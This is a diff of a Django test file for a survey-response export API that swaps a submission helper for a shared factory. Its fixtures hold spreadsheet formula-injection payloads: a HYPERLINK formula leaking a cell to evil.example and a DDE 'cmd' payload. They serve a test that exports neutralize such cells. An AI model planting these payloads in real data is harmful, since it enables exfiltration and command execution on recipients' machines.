@@ -13,29 +13,15 @@ from django.db import connection
 from govcx.accounts.tests.api_helpers import api_get, token_for
 from govcx.audit.models import Action, AuditEntry
 from govcx.collection import exports
-from govcx.collection.models import Response, Source
-from govcx.collection.services import submission_accept
+from govcx.collection.models import Response
 from govcx.collection.tests.helpers import published_survey
-from govcx.conftest import World, signed_in
-from govcx.surveys.models import Survey
+from govcx.testing.factories import World, respond, signed_in
 
 EXPORT = "/api/v1/responses/export"
 FORMULAS = {
     "comment": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
     "went_well__other": "+cmd|' /C calc'!A0",
 }
-
-
-def accept(survey: Survey, answers: dict[str, Any], **context: str) -> Response:
-    return submission_accept(
-        survey=survey,
-        version=survey.published_version(),
-        touchpoint=survey.touchpoints.get(),
-        raw_answers=answers,
-        language="en",
-        source=Source.API,
-        **context,
-    ).response
 
 
 def csv_rows(response: Any) -> list[dict[str, str]]:
@@ -51,13 +37,13 @@ def parquet_rows(response: Any) -> list[dict[str, Any]]:
 
 def test_formula_cells_are_neutralized_and_numbers_kept(world: World) -> None:
     survey = published_survey(world)
-    accept(
+    respond(
         survey,
         {"trust": "1", "went_well": ["ease", "other"], **FORMULAS},
         location_code="@SUM(1+1)",
         page_url="-2+3+cmd|' /C calc'!A0",
     )
-    accept(survey, {"trust": "0", "went_poorly": ["ease"], "comment": "-2"})
+    respond(survey, {"trust": "0", "went_poorly": ["ease"], "comment": "-2"})
     screen = {"survey": str(survey.pk), "format": "csv"}
     for response in (
         api_get(EXPORT, token_for(world.owner), survey=survey.pk),
@@ -78,8 +64,8 @@ def test_formula_cells_are_neutralized_and_numbers_kept(world: World) -> None:
 
 def test_other_write_ins_have_their_own_column_in_csv_and_parquet(world: World) -> None:
     survey = published_survey(world)
-    accept(survey, {"trust": "1", "went_well": ["ease", "other"], "went_well__other": "Kind"})
-    accept(survey, {"trust": "0", "went_poorly": ["other"], "went_poorly__other": "Slow"})
+    respond(survey, {"trust": "1", "went_well": ["ease", "other"], "went_well__other": "Kind"})
+    respond(survey, {"trust": "0", "went_poorly": ["other"], "went_poorly__other": "Slow"})
     table = csv_rows(api_get(EXPORT, token_for(world.owner), survey=survey.pk))
     header = list(table[0])
     for key in ("went_well", "went_poorly"):
@@ -98,11 +84,11 @@ def test_other_write_ins_have_their_own_column_in_csv_and_parquet(world: World) 
 @pytest.mark.skipif(connection.vendor == "postgresql", reason="PostgreSQL never stored such text")
 def test_text_stored_before_the_rule_is_exported_not_fatal(world: World) -> None:
     survey = published_survey(world)
-    old = accept(survey, {"trust": "1", "went_well": ["ease"]})
+    old = respond(survey, {"trust": "1", "went_well": ["ease"]})
     Response.objects.filter(pk=old.pk).update(
         answers={"trust": "1", "went_well": ["ease"], "comment": "bad \ud800 and \x00 too"}
     )
-    accept(survey, {"trust": "0", "went_poorly": ["ease"], "comment": "later"})
+    respond(survey, {"trust": "0", "went_poorly": ["ease"], "comment": "later"})
     table = csv_rows(api_get(EXPORT, token_for(world.owner), survey=survey.pk))
     assert [r["comment"] for r in table] == ["bad \ufffd and \x00 too", "later"]
     rows = parquet_rows(api_get(EXPORT, token_for(world.owner), survey=survey.pk, format="parquet"))
@@ -117,7 +103,7 @@ def test_a_failure_midway_ends_the_stream_with_an_error_and_is_audited(
 ) -> None:
     survey = published_survey(world)
     for comment in ("first", "breaks", "third"):
-        accept(survey, {"trust": "1", "went_well": ["ease"], "comment": comment})
+        respond(survey, {"trust": "1", "went_well": ["ease"], "comment": comment})
     real = exports.answer_text
 
     def failing(value: Any) -> str:
